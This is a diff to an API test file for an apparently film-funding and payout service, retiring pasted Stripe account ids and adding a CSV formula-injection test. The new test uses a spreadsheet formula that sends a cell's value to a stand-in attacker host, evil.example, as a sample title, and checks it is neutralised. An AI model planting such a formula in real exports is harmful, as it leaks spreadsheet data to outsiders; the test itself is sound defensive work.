@@ -84,9 +84,9 @@ def test_the_whole_chain_adds_up(api):
 
 def test_payout_account_and_failed_payouts(api):
     user = factories.member()
-    saved = api.put("/me/payout-account", {"stripe_account_id": "acct_1Abc"}, caller=user)
-    assert saved.status_code == 200 and saved.data["stripe_account_id"] == "acct_1Abc"
-    assert api.put("/me/payout-account", {"stripe_account_id": "nope"}, caller=user).status_code == 400
+    retired = api.put("/me/payout-account", {"stripe_account_id": "acct_1Abc"}, caller=user)
+    assert retired.status_code == 410 and retired.data["error"]["code"] == "gone"  # pasted ids are no more
+    assert api.get("/me/payout-account", caller=user).data["onboarding"] == "not_started"
     assert api.get("/admin/payouts?status=failed", caller=user).status_code == 403
     listed = api.get("/admin/payouts?status=failed", caller=factories.admin())
     assert listed.status_code == 200 and "items" in listed.data
@@ -127,3 +127,21 @@ def test_the_readme_walkthrough_picks_an_open_or_funded_film_never_a_failed_one(
     refused = api.post(f"/films/{failed}/receipts", {"period": "2025-01", "rights_received_cents": 100,
                                                      "reference": "walk"}, caller=factories.admin())
     assert refused.status_code == 409 and refused.data["error"]["code"] == "film_not_funded"
+
+
+def test_a_title_typed_as_a_formula_reaches_the_statement_csv_as_text(api):
+    import csv as csv_module
+    import io
+
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
+    producer, user = factories.producer(), factories.member()
+    film_id = factories.make_film(producer, title=title)["film_id"]
+    back(film_id, user.user_id, 5000)
+    admin = factories.admin()
+    api.post(f"/films/{film_id}/receipts", {"period": PERIOD, "rights_received_cents": 10_000,
+                                           "reference": f"formula-{film_id}"}, caller=admin)
+    assert api.post("/admin/distributions", {"period": PERIOD}, caller=admin).status_code == 200
+    assert api.get(f"/me/statements/{PERIOD}", caller=user).data["lines"][0]["title"] == title  # JSON as typed
+    response = api.client.http.get(f"/me/statements/{PERIOD}?format=csv", headers=factories.auth(user))
+    (row,) = csv_module.DictReader(io.StringIO(response.body.decode()))
+    assert row["title"] == "'" + title and row["film_id"] == film_id
